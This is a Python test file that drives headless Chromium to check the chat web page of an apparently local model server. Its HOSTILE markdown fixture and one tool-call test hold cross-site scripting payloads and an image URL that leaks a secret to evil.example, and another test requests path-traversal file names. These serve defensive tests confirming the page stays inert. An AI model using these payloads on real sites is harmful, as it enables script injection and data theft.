"""The web page in a real browser: Chromium, driven by its own driver."""

import json
import shutil
import time

import httpx
import pytest
from helpers.running_server import Running
from scripted import say, scripted_engine

from hotset.page import read_files
from hotset.server.models import Known

WIDE, PHONE = (1280, 800), (390, 844)
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
HOSTILE = """# Hello <img src=x onerror="window.pwned=1">

<script>window.pwned = 2</script><iframe src="http://evil.example/frame"></iframe>
<svg onload="window.pwned=3"></svg><style>body { display: none }</style>

[a](javascript:window.pwned=4) [b](data:text/html,<script>window.pwned=5</script>) [c](vbscript:x)
[d](/v1/models) [e]( javascript&#58;window.pwned=6) <javascript:window.pwned=7> [good](https://example.org/page)

![picture](http://evil.example/leak.png?secret) ![p](x" onerror="window.pwned=8)

```html" onmouseover="window.pwned=9
<script>window.pwned = 10</script>
```

| <b onclick="window.pwned=11">cell</b> | <form action="http://evil.example"><input></form> |
| --- | --- |
| `x` | <a href="javascript:window.pwned=12" style="position:fixed">y</a> |
"""


@pytest.fixture(scope="module")
def scripted(model):
    """A server whose answers a test writes."""
    running = Running([Known("written", None)], lambda _: scripted_engine(model, "chatml"))
    yield running
    running.close()


@pytest.fixture(scope="module")
def chromium(tmp_path_factory):
    webdriver = pytest.importorskip("selenium.webdriver", reason="needs selenium (pip install '.[test]')")
    programs = [shutil.which(name) for name in ("chromium", "chromedriver")]
    if not all(programs):
        pytest.skip("needs a browser: chromium and chromedriver (apt-get install chromium chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = programs[0]
    for flag in (*FLAGS, f"--user-data-dir={tmp_path_factory.mktemp('browser')}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(options, webdriver.ChromeService(programs[1]))
    yield driver
    driver.quit()


class Page:
    """The page of a server, with nothing kept from before."""

    def __init__(self, driver, server, size=WIDE):
        self.driver, self.server = driver, server
        width, height = size
        metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 600}
        driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
        driver.get(f"{server.url}/page/icon.svg")
        driver.get_log("performance")
        driver.get_log("browser")
        self.js("localStorage.clear(); sessionStorage.clear()")
        self.load()

    def load(self):
        self.driver.get(self.server.url)
        self.until("return document.querySelector('.welcome, .message, #settings[open]')")

    def restore(self, *messages):
        """Show a conversation that the browser has kept."""
        chat = {"id": "kept", "title": "Kept", "changed": 1, "system": "", "messages": messages}
        self.js("localStorage.setItem('hotset.chat.kept', arguments[0])", json.dumps(chat))
        self.driver.get(f"{self.server.url}/#kept")
        self.driver.refresh()
        self.until("return document.querySelector('.message')")

    def js(self, script, *given):
        return self.driver.execute_script(script, *given)

    def until(self, script, seconds=30):
        end = time.monotonic() + seconds
        while not (found := self.js(script)):
            assert time.monotonic() < end, f"it did not come about: {script}"
            time.sleep(0.03)
        return found

    def element(self, selector):
        return self.driver.find_element("css selector", selector)

    def send(self, text):
        self.element("#input").send_keys(text, "\ue007")

    def answered(self, count=1):
        self.until(
            f"return document.querySelectorAll('.message.assistant').length === {count} && "
            "document.querySelector('#stop').hidden"
        )

    def texts(self, selector):
        return self.js("return [...document.querySelectorAll(arguments[0])].map(e => e.innerText)", selector)

    def requests(self):
        """What was asked for since the page was made."""
        events = [json.loads(entry["message"])["message"] for entry in self.driver.get_log("performance")]
        return [
            event["params"]["request"] for event in events if event["method"] == "Network.requestWillBeSent"
        ]


@pytest.fixture
def page(chromium, scripted):
    page = Page(chromium, scripted)
    yield page
    scripted.transformer.hook = None
    scripted.idle()


def test_files(server):
    browser = {"accept": "text/html,*/*"}
    answer = server.http.get("/", headers=browser)
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["content-security-policy"].startswith("default-src 'self';")
    assert server.http.get("/").text == "Hotset is running"
    for name, file in read_files().items():
        answer = server.http.get(f"/page/{name}")
        assert (answer.status_code, answer.content) == (200, file.body)
        assert answer.headers["content-type"] == file.media_type
        assert answer.headers["x-content-type-options"] == "nosniff"
    for name in (
        "nothing.js",
        "../__init__.py",
        "__init__.py",
        "vendor/marked.LICENSE",
        "%2e%2e/core/errors.py",
    ):
        assert server.http.get(f"/page/{name}").status_code == 404


def test_what_the_page_may_ask_without_a_key(run_server):
    locked = run_server(keys=("secret",))
    assert locked.http.get("/", headers={"accept": "text/html"}).status_code == 200
    assert locked.http.get("/page/main.js").status_code == 200
    assert locked.http.get("/heat").status_code == 401


def test_send_stream_and_reload(page, scripted):
    say(scripted, "One **two** three\n\n- four\n- five\n")
    page.send("Hello <b>there</b>")
    page.answered()
    assert page.texts(".message.user .body") == ["Hello <b>there</b>"]
    assert page.texts(".md strong") == ["two"]
    assert page.texts(".md li") == ["four", "five"]
    assert "tokens/s" in page.texts(".facts")[0]
    page.driver.refresh()
    page.until("return document.querySelector('.message')")
    assert page.texts(".md li") == ["four", "five"]
    assert page.texts("#chats .current") == ["Hello <b>there</b>"]
    page.element("#new").click()
    assert page.texts(".message") == []
    page.element("#chats button").click()
    assert page.texts(".md strong") == ["two"]


def test_stop(page, scripted):
    scripted.transformer.hook = lambda batch: time.sleep(0.02)
    say(scripted, "" + "word " * 1000)
    page.send("Go on")
    page.until("return (document.querySelector('.md')?.innerText.length ?? 0) > 20")
    begun = page.texts(".md")[0]
    page.until(f"return document.querySelector('.md').innerText.length > {len(begun)}")  # it streams
    page.element("#input").send_keys("\ue00c")
    page.answered()
    scripted.idle()
    assert "stopped" in page.texts(".facts")[0]
    assert page.js("return document.activeElement.id") == "input"


def test_retry_and_edit(page, scripted):
    say(
        scripted,
        "first",
        "second",
        "third",
    )
    page.send("Ask")
    page.answered()
    assert page.texts(".md") == ["first"]
    page.element(".assistant [aria-label='Try again']").click()
    page.until("return document.querySelector('.md')?.innerText === 'second'")
    page.answered()
    page.js("document.querySelector('.user [aria-label^=Edit]').click()")
    page.element(".edit textarea").send_keys(" again\ue007")
    page.until("return document.querySelector('.md')?.innerText === 'third'")
    assert page.texts(".message.user .body") == ["Ask again"]


def test_settings_are_sent(page, scripted):
    say(scripted, "yes")
    page.element("#settings-open").click()
    for name, text in (("system", "Be brief."), ("temperature", "0.5"), ("max_tokens", "9"), ("seed", "3")):
        page.element(f"#{name}").send_keys(text)
    page.element("#settings .primary").click()
    page.driver.get_log("performance")
    page.send("Ask")
    page.answered()
    (body,) = [json.loads(request["postData"]) for request in page.requests() if "postData" in request]
    assert body["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Ask"},
    ]
    assert (body["temperature"], body["max_tokens"], body["seed"]) == (0.5, 9, 3)
    assert "top_p" not in body


def test_reasoning_is_folded_and_calls_are_shown(page):
    thought = {"role": "assistant", "content": "Done.", "reasoning": "Let me **think**."}
    page.restore({"role": "user", "content": "Ask"}, thought)
    assert page.js("return document.querySelector('.thought').open") is False
    assert page.texts(".thought summary") == ["Thought"]
    assert page.js("return document.querySelector('.thought strong').textContent") == "think"
    page.driver.set_script_timeout(10)
    page.driver.execute_async_script(
        "const done = arguments[0]; import('/page/messages.js').then(({ AssistantMessage }) => {"
        'const bad = \'{"city": "<img src=x onerror=window.pwned=1>"}\';'
        "const calls = [{ name: 'weather', arguments: bad }];"
        "const view = new AssistantMessage({ role: 'assistant', content: '', calls }, {});"
        "view.update(false); document.querySelector('#messages').append(view.element); done(); })"
    )
    assert page.texts(".tool summary") == ["Calls weather"]
    assert "<img" in page.texts(".tool pre")[0]
    assert page.js("return window.pwned") is None


def test_hostile_markdown_stays_inert(page, scripted):
    say(scripted, HOSTILE)
    page.send("Attack")
    page.answered()
    page.js("document.querySelectorAll('details').forEach(e => e.open = true)")
    time.sleep(0.3)
    assert page.js("return window.pwned") is None
    inside = "#messages .assistant .md "
    for tag in ("img", "script", "iframe", "svg", "style", "form", "input", "object", "embed"):
        assert page.texts(inside + tag) == [], tag
    links = page.js(f"return [...document.querySelectorAll('{inside}a')].map(e => [e.href, e.rel])")
    assert {href for href, _ in links} == {"https://example.org/page", "http://evil.example/leak.png?secret"}
    assert all("noopener" in rel for _, rel in links)
    attributes = page.js(
        f"return [...document.querySelectorAll('{inside}*')].flatMap(e => [...e.attributes].map(a => a.name))"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("style", "id", "src")]
    assert "<script>window.pwned = 10</script>" in page.texts(inside + "pre")[0]
    hosts = {request["url"].split("/")[2] for request in page.requests() if request["url"].startswith("http")}
    assert hosts == {scripted.url.removeprefix("http://")}
    severe = [entry["message"] for entry in page.driver.get_log("browser") if entry["level"] == "SEVERE"]
    assert severe == []


@pytest.mark.parametrize("size", [WIDE, PHONE])
def test_widths(chromium, scripted, size):
    page = Page(chromium, scripted, size)
    text = f"```\n{'long ' * 100}\n```\n\n{'x' * 300}\n\n|{'a|' * 30}\n|{'-|' * 30}\n"
    page.restore({"role": "user", "content": "x" * 300}, {"role": "assistant", "content": text})
    for tab in ("#tab-heat", "#tab-chat"):
        page.element(tab).click()
        assert page.js("return document.documentElement.scrollWidth") == size[0]
        assert page.js("return document.querySelector('#scroll').scrollWidth <= innerWidth")
    page.until(
        "return document.querySelector('#side').getBoundingClientRect().right "
        + ("> 200" if size == WIDE else "<= 0")
    )
    if size == PHONE:
        page.element("#menu").click()
        page.until("return document.querySelector('#side').getBoundingClientRect().left === 0")
        page.element("#new").send_keys("\ue00c")
        page.until("return document.querySelector('#side').getBoundingClientRect().right <= 0")
        assert page.js("return document.activeElement.id") == "menu"


def test_several_models(chromium, run_server):
    page = Page(chromium, run_server("one", "two"))
    page.until("return document.querySelectorAll('#model option').length === 2")
    page.js("const model = document.querySelector('#model'); model.value = 'two'; model.onchange()")
    page.element("#tab-heat").click()
    page.until("return document.querySelector('.note')?.innerText.includes('not in memory')")
    page.element("#tab-chat").click()
    page.driver.get_log("performance")
    page.js("localStorage.setItem('hotset.sampling', JSON.stringify({ max_tokens: 2 }))")
    page.send("Ask")
    page.answered()
    (body,) = [json.loads(request["postData"]) for request in page.requests() if "postData" in request]
    assert body["model"] == "two"
    assert "2 tokens" in page.texts(".facts")[0]


def test_heat_of_a_dense_model(page):
    page.element("#tab-chat").send_keys("\ue014")  # right
    page.until(
        "return !document.querySelector('#heat').hidden && document.querySelector('#heat canvas')?.width > 0"
    )
    assert page.js("return document.activeElement.id") == "tab-heat"
    page.until("return document.querySelector('.note')?.innerText.includes('Every neuron is computed')")
    assert page.texts(".card strong")[0] == "0 %"
    painted = (
        "const c = document.querySelector('#heat canvas'); "
        "return c.getContext('2d').getImageData(c.width / 2, c.height / 2, 40, 12).data.some(x => x)"
    )
    page.until(painted)


def test_a_key(chromium, model):
    locked = Running([Known("k", None)], lambda _: scripted_engine(model, "chatml"), keys=("secret",))
    try:
        page = Page(chromium, locked)
        page.until("return document.querySelector('#settings').open")
        assert "API key" in page.texts("#error")[0]
        page.element("#key").send_keys("secret")
        page.element("#settings .primary").click()
        page.until(
            "return document.querySelector('#error').hidden && !document.querySelector('#settings').open"
        )
        say(locked, "welcome")
        page.send("Ask")
        page.answered()
        assert page.texts(".md") == ["welcome"]
    finally:
        locked.close()


def test_errors_are_shown(page, scripted):
    say(scripted, "never")
    page.js("document.querySelector('#input').value = 'far too long '.repeat(3000)")
    page.send(" ")
    page.answered()
    assert "context" in page.texts(".failed")[0]
    failing = page.js("window.fetch = () => Promise.reject(new TypeError('no')); return true")
    assert failing
    page.send("Ask")
    page.answered(2)
    assert "does not answer" in page.texts(".failed")[1]


def test_the_server_says_what_fires(server):
    told = httpx.get(f"{server.url}/heat").json()
    assert told["architecture"] == ""
    assert [layer["kind"] for layer in told["layers"]] == ["dense"] * 30
    assert told["memory"] > 0 == told["device"]


def test_theme_is_kept_and_conversations_are_deleted(page):
    page.restore({"role": "user", "content": "Ask"}, {"role": "assistant", "content": "Answer"})
    ground = "return getComputedStyle(document.body).backgroundColor"
    before = page.js(ground)
    page.element("#theme").click()
    after = page.js(ground)
    assert after != before
    page.driver.refresh()
    page.until("return document.querySelector('.message')")
    assert page.js(ground) == after
    page.element("#chats [aria-label^=Delete]").click()
    page.driver.switch_to.alert.accept()
    page.until("return document.querySelector('.welcome')")
    assert page.js("return Object.keys(localStorage).filter(key => key.startsWith('hotset.chat.'))") == []
